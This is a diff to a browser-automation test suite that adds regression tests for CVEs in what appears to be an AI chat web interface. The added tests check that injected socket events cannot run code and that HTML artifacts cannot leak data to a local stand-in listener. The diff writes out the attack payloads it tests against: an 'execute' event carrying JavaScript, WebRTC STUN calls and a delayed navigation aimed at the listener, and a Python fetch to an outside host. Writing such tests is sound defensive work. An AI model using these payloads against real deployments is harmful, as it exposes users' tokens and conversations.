@@ -2,18 +2,25 @@
 
 from __future__ import annotations
 
+import json
+import re
 from collections.abc import Iterator
+from contextlib import suppress
+from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import ConsoleMessage, Page, Request, expect
+from playwright.sync_api import Browser, ConsoleMessage, Error, Page, Request, WebSocketRoute, expect
 
-from tests.browser.pages import home, open_panel, stored_chat, wait_for_round
+from tests.browser.pages import home, new_page, open_panel, stored_chat, token, wait_for_round
 from tests.browser.running import Server
 from tests.standins.elsewhere import Elsewhere
+from tests.standins.knocking import Knocking
 
 pytestmark = [pytest.mark.browser, pytest.mark.release, pytest.mark.slow]
 
+# The frame in which what somebody else wrote is shown, as upstream names it, too.
+FOREIGN = "iframe[title='Content']"
 RAN = "window.parent.stolen = window.stolen = 'ran'; document.title = 'stolen'"
 
 
@@ -87,6 +94,33 @@ def test_cve_2026_109288_a_link_runs_nothing(page: Page, server: Server, elsewhe
     untouched(page, elsewhere)
 
 
+@pytest.mark.attack
+def test_cve_2025_64496_an_event_runs_no_code_in_the_page(browser: Browser, server: Server, signed_in: Path) -> None:
+    """A server, or a Function in it, sends an event with code. The page's policy is off, to see the page alone."""
+    page = new_page(browser, storage_state=signed_in, bypass_csp=True)
+    sockets: list[WebSocketRoute] = []
+
+    def relay(socket: WebSocketRoute) -> None:
+        socket.connect_to_server()
+        sockets.append(socket)
+
+    page.route_web_socket(re.compile(r"/ws/socket\.io/"), relay)
+    home(page, server)
+    chat_id = stored_chat(page, server)
+    chat = page.request.get(f"{server.url}/api/v1/chats/{chat_id}", headers=token(page)).json()["chat"]
+    page.goto(f"{server.url}/c/{chat_id}")
+    expect(page.locator(".chat-assistant").last).to_be_visible()
+    for kind, data in (
+        ("execute", {"code": "window.stolen = 'ran'"}),
+        ("notification", {"content": "the event was heard"}),
+    ):
+        event = {"chat_id": chat_id, "message_id": chat["history"]["currentId"], "data": {"type": kind, "data": data}}
+        sockets[-1].send(f"42{json.dumps(['chat-events', event])}")
+    expect(page.get_by_text("the event was heard")).to_be_visible()
+    assert page.evaluate("window.stolen") is None
+    page.context.close()
+
+
 ARTIFACT = """```html
 <p id="said">waiting</p>
 ```
@@ -112,9 +146,49 @@ def test_cve_2026_45303_an_artifact_runs_without_the_pages_origin(
     show(page, server, ARTIFACT.replace("ELSEWHERE", elsewhere.url))
     page.locator("#chat-context-menu-button").click()
     page.get_by_role("menuitem", name="Artifacts").click()
-    frame = page.frame_locator("iframe[src='/tee/artifact.html']")
+    frame = page.frame_locator(FOREIGN)
     expect(frame.locator("#said")).to_have_text("no token, no cookie, no server", timeout=15_000)
     untouched(page, elsewhere)
+
+
+CALL = """
+const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
+call.createDataChannel('words');
+call.createOffer().then((offer) => call.setLocalDescription(offer));
+"""
+WAYS_OUT = {
+    "webrtc": f"<script>{CALL}</script>",
+    "webrtc in a frame of its own": f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
+    "a name that is looked up": "<script>setTimeout(() => { location = 'http://127.0.0.1:PORT/words' }, 700)</script>",
+}
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_an_artifact_tells_no_name_to_the_network(page: Page, server: Server, way: str) -> None:
+    """Servers' names carry words, and what no CSP names looks them up: a browser must not even knock."""
+    ended: list[Page] = []
+    page.on(
+        "crash", lambda crashed: ended.append(crashed)
+    )  # Chromium ends a frame, and what shares its process, that insists on WebRTC
+    with Knocking() as elsewhere:
+        show(page, server, f"```html\n<p id='said'>shown</p>{WAYS_OUT[way].replace('PORT', str(elsewhere.port))}\n```")
+        with suppress(Error):
+            page.locator("#chat-context-menu-button").click()
+            page.get_by_role("menuitem", name="Artifacts").click()
+            page.frame_locator(FOREIGN).locator("#said").wait_for()
+            settle(page)
+            ended.append(page)
+        assert ended, "the artifact was never shown"
+        assert elsewhere.knocks == []
+
+
+def test_a_call_from_a_page_without_policy_is_heard(page: Page) -> None:
+    """What the attacks above would look like if they got out."""
+    with Knocking() as elsewhere:
+        page.evaluate(CALL.replace("PORT", str(elsewhere.port)))
+        settle(page)
+        assert "udp" in elsewhere.knocks
 
 
 @pytest.mark.attack
@@ -130,7 +204,7 @@ def test_cve_2026_26192_a_quoted_page_runs_without_the_pages_origin(
     source = {"source": {"name": "a page"}, "document": [quoted], "metadata": [{"source": "a page", "html": True}]}
     show(page, server, "As the page says [1].", sources=[source])
     page.locator("[id^='source-']").first.click()
-    expect(page.frame_locator("iframe[src='/tee/artifact.html']").locator("#said")).to_have_text("no token")
+    expect(page.frame_locator(FOREIGN).locator("#said")).to_have_text("no token")
     untouched(page, elsewhere)
 
 
@@ -170,7 +244,7 @@ def test_cve_2026_54011_a_drawing_brings_no_script(page: Page, server: Server, e
 PYTHON = """```python
 import js
 from js import fetch
-found = [hasattr(js, "localStorage"), hasattr(js, "document")]
+found = [hasattr(js, name) for name in ("localStorage", "document", "RTCPeerConnection")]
 for url in ("SERVER/api/config", "ELSEWHERE/?words"):
     try:
         await fetch(url)
@@ -187,7 +261,7 @@ def test_cve_2026_59214_python_runs_without_the_pages_origin(page: Page, server:
     show(page, server, PYTHON.replace("SERVER", server.url).replace("ELSEWHERE", elsewhere.url))
     page.get_by_role("button", name="Run", exact=True).first.click()
     output = page.locator("#stdout-output, .chat-assistant").filter(has_text="42").last
-    expect(output).to_contain_text("[False, False, 'refused', 'refused'] 42", timeout=60_000)
+    expect(output).to_contain_text("[False, False, False, 'refused', 'refused'] 42", timeout=60_000)
     untouched(page, elsewhere)
 
 
